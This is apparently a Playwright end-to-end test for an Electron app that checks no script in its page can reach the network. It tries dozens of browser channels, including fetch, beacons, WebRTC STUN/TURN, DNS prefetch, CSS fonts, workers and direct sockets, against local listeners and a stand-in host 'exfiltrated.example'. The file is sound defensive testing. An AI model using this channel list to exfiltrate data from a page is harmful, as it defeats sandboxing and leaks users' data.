// Every way out that Chromium gives a page, tried from the desk's own page as a script that took it over would. Real
// listeners count what arrives, and the log of Chromium's network has every name that was looked up: nothing, and none.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'playwright/test';
import { launchDesk, type ElectronDesk } from '#test/e2e/support/electron-desk.ts';
import { startListeners, type Listeners } from '#test/e2e/support/listeners.ts';

let desk: ElectronDesk;
let outside: Listeners;

test.beforeAll(async () => {
  outside = await startListeners();
  desk = await launchDesk();
});
test.afterAll(async () => {
  await desk?.close();
  outside?.stop();
});

/** What this Chromium may have, and the types of the web do not. */
type LooseName =
  | 'fetchLater'
  | 'WebSocketStream'
  | 'opened'
  | 'eval'
  | 'backgroundFetch'
  | 'fetch'
  | 'navigator'
  | 'joinAdInterestGroup'
  | 'sharedStorage'
  | 'worklet'
  | 'addModule'
  | 'CSS'
  | 'paintWorklet'
  | 'TCPSocket'
  | 'UDPSocket';
type Loose = { [name in LooseName]: Loose } & ((...given: unknown[]) => Loose) &
  (new (...given: unknown[]) => Loose);

/** A name that nobody else uses: one that is looked up carries what stands in it. */
const NAME = 'exfiltrated.example';

/** Tries all of them in the page; answers which of them this Chromium has at all. */
const tryAll = (to: { port: number; name: string }): Promise<string[]> =>
  desk.page.evaluate(async ({ port, name }) => {
    const at = `http://127.0.0.1:${port}`;
    const secure = `https://127.0.0.1:${port}`;
    const put = (tag: string, attributes: Record<string, string>, text = ''): HTMLElement => {
      const element = document.createElement(tag);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      element.textContent = text;
      document.body.append(element);
      return element;
    };
    const link = (rel: string, href: string, as = '') => put('link', { rel, href, as });
    const connectPeers = async (urls: string): Promise<void> => {
      const peer = new RTCPeerConnection({
        iceServers: [{ urls, username: 'u', credential: 'c' }],
        iceCandidatePoolSize: 2,
      });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    };
    const sheet = (text: string): void => {
      const made = new CSSStyleSheet();
      made.replaceSync(text);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, made];
      put('p', { class: 'exit' }, 'x');
    };
    const worker = (text: string): Worker =>
      new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
    const any = window as unknown as Loose;
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(`${at}/fetch`),
      'fetch that outlives the page': () =>
        fetch(`${at}/keep`, { method: 'POST', keepalive: true }),
      fetchLater: () => any.fetchLater(`${secure}/later`, { activateAfter: 0 }),
      XMLHttpRequest: () => {
        const request = new XMLHttpRequest();
        request.open('GET', `${at}/xhr`);
        request.send();
      },
      WebSocket: () => new WebSocket(`ws://127.0.0.1:${port}`),
      WebSocketStream: () => new any.WebSocketStream(`ws://127.0.0.1:${port}`).opened,
      EventSource: () => new EventSource(`${at}/events`),
      sendBeacon: () => navigator.sendBeacon(`${at}/beacon`, 'x'),
      WebTransport: () => new WebTransport(`${secure}/`).ready,
      'STUN over UDP': () => connectPeers(`stun:127.0.0.1:${port}`),
      'TURN over UDP': () => connectPeers(`turn:127.0.0.1:${port}?transport=udp`),
      'TURN over TCP': () => connectPeers(`turn:127.0.0.1:${port}?transport=tcp`),
      'TURN over TLS': () => connectPeers(`turns:127.0.0.1:${port}?transport=tcp`),
      'STUN by name': () => connectPeers(`stun:stun.${name}:${port}`),
      'TURN by name': () => connectPeers(`turn:turn.${name}:${port}?transport=tcp`),
      'dns-prefetch': () => link('dns-prefetch', `https://prefetch.${name}/`),
      preconnect: () => link('preconnect', at),
      'preconnect by name': () => link('preconnect', `https://preconnect.${name}/`),
      prefetch: () => link('prefetch', `${at}/prefetch`),
      preload: () => link('preload', `${at}/preload`, 'script'),
      modulepreload: () => link('modulepreload', `${at}/module`),
      prerender: () => link('prerender', `${at}/prerender`),
      manifest: () => link('manifest', `${at}/manifest`),
      icon: () => link('icon', `${at}/icon`),
      stylesheet: () => link('stylesheet', `${at}/style`),
      'style sheet of a script': () =>
        sheet(
          `.exit { background: url(${at}/css); cursor: url(${at}/cursor), auto }
           @font-face { font-family: exit; src: url(${at}/font) } .exit { font-family: exit }`,
        ),
      FontFace: () => new FontFace('exit2', `url(${at}/face)`).load(),
      image: () => put('img', { src: `${at}/image`, attributionsrc: `${secure}/attribution` }),
      srcset: () => put('img', { srcset: `${at}/set 2x` }),
      'SVG image': () => {
        document.body.insertAdjacentHTML(
          'beforeend',
          `<svg><image href="${at}/svg"/><use href="${at}/use#a"/></svg>`,
        );
      },
      video: () => put('video', { src: `${at}/video`, poster: `${at}/poster`, preload: 'auto' }),
      audio: () => new Audio(`${at}/audio`).play(),
      script: () => put('script', { src: `${at}/script` }),
      import: () => any.eval(`import('${at}/import')`),
      object: () => put('object', { data: `${at}/object` }),
      embed: () => put('embed', { src: `${at}/embed` }),
      iframe: () => put('iframe', { src: `${at}/iframe` }),
      srcdoc: () => put('iframe', { srcdoc: `<img src="${at}/srcdoc">` }),
      form: () =>
        (put('form', { action: `${at}/form`, method: 'post' }) as HTMLFormElement).submit(),
      'meta refresh': () =>
        put('meta', { 'http-equiv': 'refresh', content: `0;url=${at}/refresh` }),
      navigation: () => location.assign(`${at}/navigation`),
      window: () => window.open(`${at}/window`),
      ping: () => {
        const anchor = put('a', { href: '#', ping: `${at}/ping` }, 'x');
        anchor.click();
      },
      Worker: () => new Worker(`${at}/worker`),
      SharedWorker: () => new SharedWorker(`${at}/shared`),
      importScripts: () => worker(`importScripts('${at}/imported')`),
      'fetch of a worker': () => worker(`fetch('${at}/in-worker')`),
      'service worker': () => navigator.serviceWorker.register(`${at}/service`),
      'service worker of the page': () =>
        navigator.serviceWorker.register('/assets/service.js', { scope: '/' }),
      'background fetch': async () => {
        const ready = (await navigator.serviceWorker.ready) as unknown as Loose;
        return ready.backgroundFetch.fetch('x', [`${at}/background`]);
      },
      'speculation rules': () =>
        put(
          'script',
          { type: 'speculationrules' },
          JSON.stringify({
            prefetch: [{ source: 'list', urls: [`${at}/speculated`] }],
            prerender: [{ source: 'list', urls: [`${at}/prerendered`] }],
          }),
        ),
      FedCM: () =>
        navigator.credentials.get({
          identity: { providers: [{ configURL: `${secure}/config.json`, clientId: '1' }] },
        } as CredentialRequestOptions),
      'payment handler': () => {
        const request = new PaymentRequest([{ supportedMethods: `${secure}/pay` }], {
          total: { label: 'x', amount: { currency: 'USD', value: '1' } },
        });
        return request.canMakePayment();
      },
      'ad auction': () =>
        any.navigator.joinAdInterestGroup(
          { owner: secure, name: 'x', biddingLogicURL: `${secure}/bid` },
          1,
        ),
      'shared storage': () => any.sharedStorage.worklet.addModule(`${secure}/worklet`),
      worklet: () => any.CSS.paintWorklet.addModule(`${at}/paint`),
      'audio worklet': () => new AudioContext().audioWorklet.addModule(`${at}/worklet`),
      'direct socket': () => new any.TCPSocket('127.0.0.1', port).opened,
      'direct UDP': () =>
        new any.UDPSocket({ remoteAddress: '127.0.0.1', remotePort: port }).opened,
      'reports of the policy': () =>
        put('meta', {
          'http-equiv': 'Content-Security-Policy',
          content: `default-src 'self'; report-uri ${at}/report; report-to ${at}`,
        }),
    };
    const missing = /is not a (constructor|function)|is not defined|Cannot read properties/;
    const outcomes = await Promise.all(
      Object.entries(ways).map(async ([way, run]) => {
        try {
          await Promise.race([run(), new Promise((resolve) => setTimeout(resolve, 3_000))]);
        } catch (error) {
          if (missing.test(String(error))) return [];
        }
        return [way];
      }),
    );
    // Peers gather their candidates for a while after they were asked to.
    await new Promise((resolve) => setTimeout(resolve, 3_000));
    return outcomes.flat();
  }, to);

test('no script of the page reaches anything, by any way that Chromium has', async () => {
  const file = join(desk.folder, 'network.json');
  await desk.app.evaluate(
    ({ session }, path) => session.defaultSession.netLog.startLogging(path),
    file,
  );
  const tried = await tryAll({ port: outside.port, name: NAME });
  await desk.app.evaluate(({ session }) => session.defaultSession.netLog.stopLogging());
  const names = readFileSync(file, 'utf8').match(/[a-z]+\.exfiltrated\.example/g) ?? [];
  expect({ arrived: outside.arrived, lookedUp: [...new Set(names)] }).toEqual({
    arrived: [],
    lookedUp: [],
  });
  // Not vacuous: these are there to be tried in every Chromium.
  expect(tried).toEqual(
    expect.arrayContaining([
      'fetch',
      'WebTransport',
      'STUN over UDP',
      'TURN over TCP',
      'TURN by name',
    ]),
  );
  // And the page is still ours.
  expect(await desk.call('desk.info', {})).toMatchObject({ ok: true });
});
